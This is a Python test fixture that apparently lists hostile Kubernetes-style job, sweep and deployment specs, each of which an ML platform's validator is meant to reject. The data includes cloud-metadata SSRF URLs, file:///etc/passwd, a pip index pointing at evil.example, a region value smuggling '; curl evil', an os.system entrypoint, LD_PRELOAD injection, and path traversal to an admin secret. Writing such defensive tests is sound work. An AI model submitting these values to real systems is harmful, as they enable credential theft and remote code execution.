"""A corpus of hostile specs: what a careless or malicious tenant could apply.

Each one must be refused before anything runs, naming the field: by the API server (the CRD's
schema and CEL rules) and by `mlplane validate` alike, or — for content the API server cannot
type (free-form hyperparameters, tuning choices; `api_server=False`) — by `mlplane validate` and
the operator's own parse of the spec.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

API_VERSION = "mlplane.dev/v1alpha1"


@dataclass(frozen=True)
class Hostile:
    id: str
    doc: dict[str, Any]
    field: str
    """The field the refusal names, as `kubectl` and `mlplane validate` write it."""
    api_server: bool = True
    """Whether the API server sees the problem (False: only the models can)."""


def _job() -> dict[str, Any]:
    return {
        "apiVersion": API_VERSION,
        "kind": "TrainingJob",
        "metadata": {"name": "hostile"},
        "spec": {"framework": "xgboost", "dataset": {"uri": "sklearn://iris", "label": "target"}},
    }


def _sweep() -> dict[str, Any]:
    return {
        "apiVersion": API_VERSION,
        "kind": "TuningSweep",
        "metadata": {"name": "hostile"},
        "spec": {
            "template": _job()["spec"],
            "searchSpace": {"eta": {"loguniform": {"low": 0.01, "high": 0.5}}},
            "objective": {"metric": "val_logloss", "mode": "min"},
        },
    }


def _deployment() -> dict[str, Any]:
    return {
        "apiVersion": API_VERSION,
        "kind": "ModelDeployment",
        "metadata": {"name": "hostile"},
        "spec": {"model": {"uri": "models:/churn/1"}},
    }


def _sagemaker() -> dict[str, Any]:
    doc = _deployment()
    doc["spec"]["target"] = "sagemaker"
    doc["spec"]["sagemaker"] = {
        "region": "eu-west-1",
        "roleArn": "arn:aws:iam::123456789012:role/mlplane-sagemaker",
    }
    return doc


def _with(doc: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """`doc` with the dotted `path` set to `value`, creating the maps on the way."""
    doc = copy.deepcopy(doc)
    *parents, leaf = path.split(".")
    node = doc
    for key in parents:
        node = node.setdefault(key, {})
    node[leaf] = value
    return doc


def _nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


def job(path: str, value: Any, field: str | None = None, **kw: Any) -> Hostile:
    return Hostile(f"job {path}={_short(value)}", _with(_job(), path, value), field or path, **kw)


def sweep(path: str, value: Any, field: str | None = None, **kw: Any) -> Hostile:
    doc = _with(_sweep(), path, value)
    return Hostile(f"sweep {path}={_short(value)}", doc, field or path, **kw)


def deployment(path: str, value: Any, field: str | None = None, **kw: Any) -> Hostile:
    doc = _with(_deployment(), path, value)
    return Hostile(f"mdep {path}={_short(value)}", doc, field or path, **kw)


def sagemaker(path: str, value: Any, field: str | None = None, **kw: Any) -> Hostile:
    doc = _with(_sagemaker(), path, value)
    return Hostile(f"sagemaker {path}={_short(value)}", doc, field or path, **kw)


def _short(value: Any) -> str:
    text = repr(value)
    return text if len(text) <= 40 else f"{text[:30]}…({len(text)} chars)"


LONG = "x" * 70_000

HOSTILE_SPECS: list[Hostile] = [
    # Names
    job("metadata.name", "Upper-Case"),
    job("metadata.name", "a" * 300),
    job("metadata.name", "modèle"),
    job("metadata.name", "../etc"),
    job("spec.resources.nodePool", "../../gpu"),
    job("spec.queueName", "Team A"),
    job("spec.tracking.registerAs", "churn/../../other-team"),
    job("spec.tracking.registerAs", "churn\u202emodel"),
    job("spec.tracking.alias", "champion; DROP"),
    # Numbers
    job("spec.resources.workers", 10**9),
    job("spec.resources.workers", -2),
    job("spec.retries", 1e308),
    job("spec.priority", -(10**9)),
    job("spec.resources.perWorker.gpu", 1000),
    job("spec.resources.perWorker.cpu", "1e308"),
    job("spec.resources.perWorker.cpu", 10**6),
    job("spec.resources.perWorker.memory", "-16Gi"),
    job("spec.resources.perWorker.memory", "999999Pi"),
    job("spec.dataset.split.seed", -1),
    job("spec.dataset.split.seed", 2**70),
    job("spec.activeDeadlineSeconds", 10**12),
    job("spec.checkpoint.every", 0),
    job(
        "spec.earlyStopping",
        {"metric": "val_loss", "patience": 10**12},
        "spec.earlyStopping.patience",
    ),
    sweep(
        "spec.searchSpace",
        {"eta": {"uniform": {"low": 0, "high": 1e308}}},
        "spec.searchSpace.eta.uniform.high",
    ),
    sweep(
        "spec.searchSpace",
        {"depth": {"randint": {"low": -1e15, "high": 3}}},
        "spec.searchSpace.depth.randint.low",
    ),
    sweep("spec.trials", {"max": 10**9}, "spec.trials.max"),
    sweep("spec.trials", {"maxFailures": 10**9}, "spec.trials.maxFailures"),
    sweep("spec.earlyStopping", {"gracePeriod": 10**9}, "spec.earlyStopping.gracePeriod"),
    deployment(
        "spec.ray.replicas",
        {"targetOngoingRequests": 1e308},
        "spec.ray.replicas.targetOngoingRequests",
    ),
    deployment("spec.ray.replicas", {"max": 10**6}, "spec.ray.replicas.max"),
    deployment("spec.ray.perReplica", {"cpu": "1e308"}, "spec.ray.perReplica.cpu"),
    deployment("spec.ray.batching", {"maxBatchSize": 10**6}, "spec.ray.batching.maxBatchSize"),
    deployment("spec.ray.maxRequestBytes", 10**12),
    deployment(
        "spec.canary",
        {"model": {"uri": "models:/churn/2"}, "guard": {"maxLatencyP99Ms": 1e308}},
        "spec.canary.guard.maxLatencyP99Ms",
    ),
    deployment(
        "spec.canary",
        {"model": {"uri": "models:/churn/2"}, "intervalSeconds": 10**9},
        "spec.canary.intervalSeconds",
    ),
    sagemaker("spec.sagemaker.instanceCount", 10**6),
    # Sizes
    job("spec.dataset.uri", "s3://bucket/" + LONG),
    job("spec.dataset.label", ""),
    job("spec.dataset.features", ["f"] * 5000),
    job("spec.dataset.features", ["ok", LONG], "spec.dataset.features[1]"),
    job("spec.runtimeEnv.envVars", {f"VAR_{i}": "x" for i in range(300)}),
    job("spec.runtimeEnv.envVars", {"BIG": LONG}, "spec.runtimeEnv.envVars.BIG"),
    job("spec.tracking.tags", {"k" * 300: "v"}),
    job("spec.tracking.experiment", LONG),
    job("spec.gates", {"roc_auc": ">= 0.9" + "9" * 100}, "spec.gates.roc_auc"),
    job("spec.hyperparameters", {f"p{i}": i for i in range(300)}),
    job("spec.hyperparameters", {"blob": LONG}, api_server=False),
    job("spec.hyperparameters", {"deep": _nested(40)}, api_server=False),
    job("spec.model.params", {"hidden": _nested(200)}, api_server=False),
    sweep(
        "spec.searchSpace",
        {"booster": {"choice": ["gbtree", LONG]}},
        "spec.searchSpace.booster.choice[1]",
        api_server=False,
    ),
    sagemaker("spec.sagemaker.environment", {"NOT-A-NAME": "x"}),
    sagemaker("spec.sagemaker.environment", {"OK": "x" * 2000}, "spec.sagemaker.environment.OK"),
    sagemaker("spec.sagemaker.tags", {"team": "x" * 300}, "spec.sagemaker.tags.team"),
    # URIs, paths and code
    job("spec.dataset.uri", "ftp://example.com/data.csv"),
    job("spec.dataset.uri", "s3://"),
    job("spec.model.entrypoint", "__import__('os').system"),
    job(
        "spec.runtimeEnv.pip",
        ["--index-url=http://evil.example/simple", "numpy"],
        "spec.runtimeEnv.pip[0]",
    ),
    job("spec.runtimeEnv.workingDir", "s3://bucket/" + LONG),
    job("spec.runtimeEnv.envVars", {"LD_PRELOAD=/tmp/x.so;X": "1"}),
    job(
        "spec.runtimeEnv.envFrom",
        [{"secretRef": {"name": "../kube-system/admin"}}],
        "spec.runtimeEnv.envFrom[0].secretRef.name",
    ),
    sagemaker("spec.sagemaker.endpointUrl", "http://169.254.169.254/latest/meta-data/"),
    sagemaker("spec.sagemaker.endpointUrl", "http://[fd00:ec2::254]/"),
    sagemaker("spec.sagemaker.endpointUrl", "http://metadata.google.internal/computeMetadata/v1/"),
    sagemaker("spec.sagemaker.endpointUrl", "http://2852039166/"),
    sagemaker("spec.sagemaker.endpointUrl", "http://aws@169.254.169.254/"),
    sagemaker("spec.sagemaker.endpointUrl", "file:///etc/passwd"),
    sagemaker("spec.sagemaker.region", "eu-west-1; curl evil"),
    sagemaker("spec.sagemaker.roleArn", "arn:aws:iam::123:role/x"),
    deployment("spec.model", {"uri": "file:///etc/passwd"}, "spec.model.uri"),
    deployment("spec.ray.routePrefix", "/../admin?x=1"),
]
